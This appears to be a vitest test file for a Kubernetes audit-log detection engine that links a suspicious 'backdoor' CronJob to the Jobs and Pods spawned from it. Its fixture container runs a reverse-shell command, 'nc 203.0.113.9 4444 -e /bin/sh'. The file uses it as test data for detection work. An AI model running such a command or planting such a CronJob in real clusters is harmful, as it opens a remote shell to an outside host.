import { describe, expect, it } from 'vitest';
import { compileExceptions } from '../../src/config/exceptions.js';
import { DetectionEngine } from '../../src/detect/engine.js';
import type { AuditEvent } from '../../src/schema/audit-event.js';
import { loadRulePaths } from '../../src/sigma/index.js';
import type { SourceEvent } from '../../src/source/types.js';
import { BUILTIN_RULES_DIR } from '../../src/cli/builtin.js';

const { ruleSet } = loadRulePaths([BUILTIN_RULES_DIR], { strict: true });
const CONTROLLER = (name: string) => ({
  username: `system:serviceaccount:kube-system:${name}`,
  groups: ['system:serviceaccounts', 'system:serviceaccounts:kube-system', 'system:authenticated'],
});
const SHELL = {
  name: 'c',
  image: 'alpine:3.20',
  command: ['/bin/sh', '-c', 'nc 203.0.113.9 4444 -e /bin/sh'],
};

let line = 0;
function src(event: AuditEvent): SourceEvent {
  return { kind: 'event', event, file: 'audit.log', line: ++line, format: 'native' };
}

function write(
  auditID: string,
  resource: string,
  name: string,
  body: Record<string, unknown>,
  extra: Partial<AuditEvent> = {},
): AuditEvent {
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'RequestResponse',
    auditID,
    stage: 'ResponseComplete',
    verb: 'create',
    user: { username: 'dev-alice', groups: ['system:authenticated'] },
    objectRef: {
      resource,
      namespace: 'default',
      name,
      apiGroup: resource === 'pods' ? '' : 'batch',
      apiVersion: 'v1',
    },
    responseStatus: { code: 201 },
    requestObject: body,
    responseObject: body,
    stageTimestamp: '2026-11-02T09:00:00Z',
    ...extra,
  };
}

const cronjob = write('cj', 'cronjobs', 'backdoor', {
  kind: 'CronJob',
  metadata: { name: 'backdoor', namespace: 'default', uid: 'uid-cj' },
  spec: {
    schedule: '* * * * *',
    jobTemplate: { spec: { template: { spec: { containers: [SHELL] } } } },
  },
});
const job = (auditID: string, owner: boolean, user = CONTROLLER('cronjob-controller')) =>
  write(
    auditID,
    'jobs',
    'backdoor-29377980',
    {
      kind: 'Job',
      metadata: {
        name: 'backdoor-29377980',
        namespace: 'default',
        uid: 'uid-job',
        ...(owner
          ? {
              ownerReferences: [
                { kind: 'CronJob', name: 'backdoor', uid: 'uid-cj', controller: true },
              ],
            }
          : {}),
      },
      spec: { template: { spec: { containers: [SHELL] } } },
    },
    { user },
  );
const pod = write(
  'pod',
  'pods',
  'backdoor-29377980-x7k2p',
  {
    kind: 'Pod',
    metadata: {
      name: 'backdoor-29377980-x7k2p',
      namespace: 'default',
      ownerReferences: [
        { kind: 'Job', name: 'backdoor-29377980', uid: 'uid-job', controller: true },
      ],
    },
    spec: { containers: [SHELL] },
  },
  { user: CONTROLLER('job-controller') },
);

describe('DetectionEngine', () => {
  it('links the Jobs and Pods controllers create from an alerted CronJob instead of raising them', () => {
    const engine = new DetectionEngine(ruleSet);
    const raised = [cronjob, job('job', true), pod].flatMap((e) => engine.process(src(e)));
    expect(raised).toHaveLength(1);
    const alert = raised[0]!.alert;
    expect(alert.severity).toBe('critical');
    expect(alert.relatedCount).toBe(2);
    expect(alert.related.map((r) => [r.resource, r.link, r.parent])).toEqual([
      ['jobs', 'ownerReference', 'CronJob default/backdoor'],
      ['pods', 'ownerReference', 'Job default/backdoor-29377980'],
    ]);
    expect(alert.related[0]!.ruleIds.length).toBeGreaterThan(0);
    expect(engine.stats.linkedFollowUps).toBe(2);
  });

  it('links by the controller naming pattern when the event shows no owner', () => {
    const engine = new DetectionEngine(ruleSet);
    const metadataOnly: AuditEvent = { ...job('job-meta', false), level: 'Metadata' };
    delete metadataOnly.requestObject;
    delete metadataOnly.responseObject;
    const raised = [cronjob, metadataOnly].flatMap((e) => engine.process(src(e)));
    expect(raised).toHaveLength(1);
    expect(raised[0]!.alert.related[0]!.link).toBe('controllerNaming');
  });

  it('raises a new alert when a person creates a Job from the CronJob', () => {
    const engine = new DetectionEngine(ruleSet);
    const manual = job('job-manual', true, {
      username: 'dev-alice',
      groups: ['system:authenticated'],
    });
    const raised = [cronjob, manual].flatMap((e) => engine.process(src(e)));
    expect(raised).toHaveLength(2);
  });

  it('raises on the first child when the parent was never seen with a body', () => {
    const engine = new DetectionEngine(ruleSet);
    expect(engine.process(src(job('orphan', true)))).toHaveLength(1);
  });

  it('evaluates a request once, on its final stage, and keeps input order', () => {
    const engine = new DetectionEngine(ruleSet);
    const received: AuditEvent = { ...cronjob, stage: 'RequestReceived' };
    delete received.requestObject;
    delete received.responseObject;
    delete received.responseStatus;
    expect(engine.process(src(received))).toEqual([]);
    const raised = engine.process(src(cronjob));
    expect(raised).toHaveLength(1);
    expect(raised[0]!.alert.stage).toBe('ResponseComplete');
    expect(engine.flush()).toEqual([]);
    expect(engine.stats.stages.supersededStages).toBe(1);
  });

  it('grades a failed attempt one step lower', () => {
    const engine = new DetectionEngine(ruleSet);
    const rejected = { ...cronjob, auditID: 'rej', responseStatus: { code: 403 } };
    delete rejected.responseObject;
    const [r] = engine.process(src(rejected));
    expect(r!.alert.severity).toBe('high');
    expect(r!.alert.summary).toMatch(
      /tried to create CronJob default\/backdoor and was refused \(403\)/,
    );
  });

  it('drops matches an exception silences and counts them by exception', () => {
    const exceptions = compileExceptions(
      [{ name: 'lab', reason: 'red team lab', match: { namespaces: ['default'] } }],
      new Date('2026-11-22T00:00:00Z'),
    );
    const engine = new DetectionEngine(ruleSet, exceptions);
    expect(engine.process(src(cronjob))).toEqual([]);
    expect(engine.stats.suppressed.lab).toBeGreaterThan(0);
  });

  it('reports an event that fails evaluation and goes on', () => {
    const engine = new DetectionEngine({
      ...ruleSet,
      match: () => {
        throw new Error('boom');
      },
    });
    expect(engine.process(src(cronjob))).toEqual([]);
    expect(engine.takeProblems()).toMatchObject([{ reason: 'evaluation failed: boom' }]);
    expect(engine.stats.evaluationErrors).toBe(1);
  });

  it('keeps the Sigma matches when another detector fails on the event, and reports it', () => {
    const failing = {
      match: () => {
        throw new Error('matcher blew up');
      },
    };
    const complaining = {
      match: () => [],
      takeProblems: () => ['query q could not evaluate this event'],
    };
    const engine = new DetectionEngine(ruleSet, [], [failing, complaining]);
    const [raised] = engine.process(src(cronjob));
    expect(raised!.alert.severity).toBe('critical');
    expect(engine.takeProblems().map((p) => p.reason)).toEqual([
      'evaluation failed: matcher blew up',
      'query q could not evaluate this event',
    ]);
    expect(engine.stats.evaluationErrors).toBe(2);
  });
});
